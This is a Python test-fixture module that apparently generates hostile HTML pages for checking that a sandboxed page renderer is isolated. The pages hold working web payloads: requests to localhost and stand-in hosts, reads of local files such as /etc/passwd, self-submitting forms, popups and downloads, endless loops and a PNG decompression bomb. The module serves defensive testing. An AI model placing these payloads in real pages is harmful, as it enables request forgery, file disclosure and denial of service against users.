"""Pages that try to reach the outside, the machine, or the pages after them, or never to end."""

import base64
import struct
import zlib

LEAVES_SOMETHING = "what one page leaves for the next"


def hostile_pages(port: int, folder: str) -> dict[str, str]:
    """Hostile pages by name. They reach for `port` of this machine, for hosts on the network, and for
    `secret.html`, `secret.png` and `secret.css` in `folder` of the disk."""
    outside = (
        f"http://127.0.0.1:{port}",
        f"http://localhost:{port}",
        f"http://[::1]:{port}",
        f"http://trap{port}.example.com",
        "https://198.51.100.7",
        f"//127.0.0.1:{port}",
        f"https://cdn.jsdelivr.net@127.0.0.1:{port}",
        "https://cdn.jsdelivr.net",
    )
    local = f"file://{folder}/secret"

    def each(template: str, *more: str) -> str:
        """The template for every place outside, with a path of its own."""
        return "\n".join(template.replace("@", f"{place}/{number}") for number, place in enumerate((*outside, *more)))

    sockets = [place.replace("http", "ws", 1) for place in outside if place.startswith("http")]
    script = "<p>page</p><script>try{{{}}}catch(e){{document.title=e}}</script>".format
    every = f"const all={[*outside]!r};"
    bomb = _png_of_one_colour(20000, 20000)
    pages = {
        "pictures": each('<img src="@.png"><input type=image src="@"><table background="@"><tr><td background="@">x'),
        "source sets": each('<img srcset="@ 1x, @/2 2x"><picture><source srcset="@"><img src="@"></picture>'),
        "stylesheets": each('<link rel=stylesheet href="@.css"><link rel="alternate stylesheet" href="@">'),
        "style imports": "<style>"
        + "".join(f'@import "{place}/a.css"; @import url({place}/b) screen;' for place in outside)
        + "</style>",
        "style addresses": "".join(
            f"<p style=\"background:url('{place}/a');list-style:url('{place}/b');cursor:url('{place}/c'),auto;"
            f"border-image:url('{place}/d') 1;mask:url('{place}/e#m');filter:url('{place}/f#x');"
            f"content:url('{place}/g');shape-outside:url('{place}/h')\">p</p>"
            for place in outside
        ),
        "image sets": "".join(f"<p style=\"background:image-set('{place}/a' 1x)\">p" for place in outside),
        "fonts": "<style>"
        + "".join(
            f"@font-face{{font-family:f{i};src:url({p}/f)}}.f{i}{{font-family:f{i}}}" for i, p in enumerate(outside)
        )
        + "</style>"
        + "".join(f"<p class=f{i}>text" for i in range(len(outside))),
        "preloads": each(
            '<link rel=preload as=image href="@"><link rel=modulepreload href="@"><link rel=preload as=fetch href="@">'
        ),
        "prefetches": each(
            '<link rel=prefetch href="@"><link rel=prerender href="@"><link rel=dns-prefetch href="@">'
            '<link rel=preconnect href="@"><link rel=subresource href="@">'
        ),
        "speculation rules": '<script type="speculationrules">{"prefetch":[{"urls":["http://127.0.0.1:PORT/s"],'
        '"eagerness":"immediate"}],"prerender":[{"urls":["/p","http://127.0.0.1:PORT/p"],"eagerness":"immediate"}]}'
        "</script><p>p",
        "media": each(
            '<video autoplay src="@" poster="@"><track default src="@"></video><audio autoplay src="@"></audio>'
            "<bgsound src=@>"
        ),
        "objects": each('<object data="@"></object><embed src="@"><applet code="@"></applet>', f"{local}.html"),
        "frames": each('<iframe src="@"></iframe>', f"{local}.html")
        + each('<iframe srcdoc=\'<img src="@"><meta http-equiv=refresh content="0;url=@">\'></iframe>', f"{local}.png"),
        "frameset": "<frameset cols=50%,50%>" + each('<frame src="@">', f"{local}.html") + "</frameset>",
        "new kinds of frames": each('<portal src="@"></portal><fencedframe src="@"></fencedframe><webview src="@">'),
        "vector graphics": "<svg>"
        + each(
            '<image href="@"/><use href="@#a"/><script href="@"></script><a xlink:href="@"><image xlink:href="@"/></a>'
            '<filter id=f><feImage href="@"/></filter><rect filter="url(#f)" width=9 height=9 fill="url(@#g)"/>'
            '<foreignObject><iframe src="@"></iframe></foreignObject>'
        )
        + "</svg>",
        "vector picture with a script": '<img src="data:image/svg+xml,'
        + "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('http://127.0.0.1:PORT/')</script>"
        + "<image href='http://127.0.0.1:PORT/i'/></svg>\">",
        "icons and manifests": each(
            '<link rel=icon href="@"><link rel=manifest href="@"><link rel=apple-touch-icon href="@">'
            '<link rel=pingback href="@"><html manifest="@">'
        ),
        "refresh outside": each('<meta http-equiv=refresh content="0;url=@"><p>stay</p>'),
        "refresh to data": '<meta http-equiv=refresh content="0;url=data:text/html,<h1>elsewhere">stay',
        "refresh to a file": f'<meta http-equiv=refresh content="0;url={local}.html">stay',
        "refresh to itself": '<meta http-equiv=refresh content="0">stay',
        "base address": f'<base href="http://127.0.0.1:{port}/"><img src="a.png"><link rel=stylesheet href="b.css">',
        "local files": f'<img src="{local}.png"><iframe src="{local}.html"></iframe>'
        f'<object data="{local}.png"></object>'
        f'<link rel=stylesheet href="{local}.css"><embed src="{local}.html"><video src="{local}.png"></video>'
        f'<iframe src="view-source:{local}.html"></iframe><img src="/etc/passwd"><iframe src="/proc/self/environ">',
        "inner pages of the browser": '<iframe src="chrome://settings"></iframe><iframe src="about:config"></iframe>'
        '<img src="chrome://favicon/"><iframe src="devtools://devtools/bundled/inspector.html"></iframe>'
        '<iframe src="chrome-extension://x/y"></iframe><iframe src="resource://gre/"></iframe>',
        "form that submits itself": each('<form action="@" method=post><button autofocus>b</button></form>')
        + script(every + "for (const f of document.forms) f.submit()"),
        "pictures with other addresses inside": f'<img src="https://picsum.photos/200/300?\\"><script>http://127.0.0.1:{port}">'
        '<img src="https://picsum.photos/../../etc/passwd"><img src="https://picsum.photos/99999/99999">'
        '<img src="https://source.unsplash.com/100x100/?\'></svg><script>alert(1)</script>">',
        "requests by script": script(
            every
            + "for (const u of all) { fetch(u,{mode:'no-cors'}).catch(e=>e); fetch(u,{keepalive:true,method:'POST',"
            "mode:'no-cors'}).catch(e=>e); let x=new XMLHttpRequest(); x.open('GET',u); x.send();"
            "navigator.sendBeacon(u,'x'); new EventSource(u); new Image().src=u; import(u).catch(e=>e) }"
        ),
        "sockets": script(
            "".join(f"try{{new WebSocket('{place}/s')}}catch(e){{}}" for place in sockets)
            + "try{new WebSocketStream('ws://127.0.0.1:PORT')}catch(e){}"
            + "try{new WebTransport('https://127.0.0.1:PORT')}catch(e){}"
        ),
        "peer connections": script(
            "let c=new RTCPeerConnection({iceServers:[{urls:['stun:127.0.0.1:PORT','stun:198.51.100.7:3478',"
            "'stun:trap.example.com:3478','turn:127.0.0.1:PORT?transport=tcp'],username:'a',credential:'b'}]});"
            "c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o));"
            "let k=new RTCPeerConnection();k.setRemoteDescription({type:'offer',sdp:'v=0'}).catch(e=>e)"
        ),
        "workers": script(
            "navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(e=>e);"
            "const code='for(;;)fetch(\"http://127.0.0.1:PORT/w\")';"
            "try{new Worker(URL.createObjectURL(new Blob([code])))}catch(e){}"
            "try{new SharedWorker('data:text/javascript,'+code)}catch(e){}"
            "CSS.paintWorklet && CSS.paintWorklet.addModule('http://127.0.0.1:PORT/pw').catch(e=>e)"
        ),
        "scripts from outside": each('<script src="@"></script><script type=module src="@"></script>')
        + '<script type=importmap>{"imports":{"a":"http://127.0.0.1:PORT/m"}}</script>'
        + '<script type=module>import "a"</script>',
        "local files by script": script(
            f"fetch('{local}.html').then(r=>r.text()).then(t=>document.write(t)).catch(e=>e);"
            f"let x=new XMLHttpRequest();x.open('GET','{local}.html',false);x.send();document.write(x.responseText)"
        )
        + f"<script>location='{local}.html'</script><script src='{local}.css'></script>",
        "other places by script": script(
            every + "for (const u of all) { location=u; location.href=u; location.replace(u); top.location=u;"
            "history.pushState({},'','/x') }"
        )
        + "<script>document.location='data:text/html,<h1>elsewhere'</script>",
        "reload for ever": "<p>again</p><script>location.reload();setInterval(()=>location.reload(),1)</script>",
        "popups": script(
            every
            + "for (let i=0;i<50;i++) for (const u of all) window.open(u,'_blank'); let a=document.createElement('a');"
            "a.target='_blank'; for (const u of all) { a.href=u; a.ping=u; document.body.append(a); a.click() }"
        ),
        "dialogs": "<p>hi</p><script>onbeforeunload=e=>{e.preventDefault();return 'stay'};print();"
        "for(let i=0;i<200;i++){alert(i);confirm(i);prompt(i)}</script>",
        "downloads": each('<a href="@" download=x>x</a>')
        + '<a id=d download="evil.sh" href="data:application/octet-stream,x">x</a>'
        + script(
            "for (const a of document.links) a.click();"
            "let b=document.createElement('a');b.download='evil.bin';b.href=URL.createObjectURL(new Blob(['x']));"
            "b.click()"
        ),
        "permissions": script(
            "navigator.geolocation.getCurrentPosition(()=>1);Notification.requestPermission();"
            "navigator.mediaDevices&&navigator.mediaDevices.getUserMedia({audio:true,video:true}).catch(e=>e);"
            "document.documentElement.requestFullscreen().catch(e=>e);navigator.clipboard&&navigator.clipboard.readText()"
            ".catch(e=>e);document.body.requestPointerLock()"
        ),
        LEAVES_SOMETHING: script(
            "try{localStorage.x=1}catch(e){} try{document.cookie='x=1;max-age=9999'}catch(e){}"
            "try{indexedDB.open('x')}catch(e){} window.name='left'; history.pushState({},'','#left');"
            "setInterval(()=>{document.body.style.background='magenta'},0)"
        )
        + "<style>html{zoom:3;background:magenta}</style><p style='margin-top:9000px'>low",
        "endless script": "<p>hi</p><script>for(;;);</script>",
        "page of a million pixels": "<div style='height:1000000px;background:linear-gradient(red,blue)'>long</div>",
        "page without an end": "<div style='height:99999999999px;width:99999999999px'>long</div>",
        "large picture": f'<img src="data:image/png;base64,{bomb}">',
        "styles that import themselves": "<style>@import 'data:text/css,@import \"data:text/css,p{color:red}\"';"
        "p{--a:x;" + "".join(f"--a{i}:var(--a{i - 1})var(--a{i - 1});" for i in range(1, 60)) + "}</style><p>p",
        "characters that are none": "<p>\ud800 \x00 \x1b[2J \ufeff \u202e left</p>" + "\ufdd0" * 100,
        "scripts beside the play script": '<script src="https://cdn.tailwindcss.com"></script>'
        '<script src="https://cdn.tailwindcss.com/../evil.js"></script>'
        '<script src="data:text/javascript,for(;;);"></script>'
        "<script>tailwind.config = {plugins: [fetch('http://127.0.0.1:PORT/plugin')]}</script>"
        "<script>tailwind.config = {a: 1}; for(;;);</script><img src=x onerror='for(;;);'><svg onload='for(;;);'></svg>"
        '<a href="javascript:for(;;);" autofocus onfocus="for(;;);">a</a>'
        '<iframe srcdoc="<script>for(;;);</script>"></iframe>'
        "<style type=text/tailwindcss>@import 'http://127.0.0.1:PORT/t.css';p{background:url(http://127.0.0.1:PORT/u)}"
        "</style><form id=head name=config><input name=append></form><p class='bg-red-500'>p",
    }
    joined = {group: SMALL_FRAMES + "\n".join(pages.pop(name) for name in names) for group, names in TOGETHER.items()}
    return {name: page.replace("PORT", str(port)) for name, page in (joined | pages).items()}


# Drawn as one page: none of these navigates, and a packet or a file that is seen counts alike from each.
TOGETHER = {
    "files and frames": ("objects", "frames", "new kinds of frames", "local files"),
    "links": (
        "pictures", "source sets", "stylesheets", "style imports", "style addresses", "image sets", "fonts", "preloads",
        "prefetches", "media", "icons and manifests", "inner pages of the browser", "styles that import themselves",
        "characters that are none",
    ),
    "scripts": (
        "scripts from outside", "vector graphics", "vector picture with a script", "speculation rules",
        "pictures with other addresses inside", "requests by script", "sockets", "peer connections",
        "local files by script", "popups", "permissions",
    ),
}  # fmt: skip
SMALL_FRAMES = "<style>iframe,object,embed,video{width:60px;height:40px}</style>"  # all of them are in the picture
# Those that no browser finishes.
ENDLESS = {"large picture", "endless script", "reload for ever", "refresh to itself", "scripts beside the play script"}


def _png_of_one_colour(width: int, height: int) -> str:
    """A PNG of some kB, in base64, that takes width x height x 4 bytes when it is drawn."""
    packer = zlib.compressobj(9)
    row = b"\0" + b"\xff" * (width // 8)  # one bit a pixel
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    picture = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    return base64.b64encode(picture).decode()
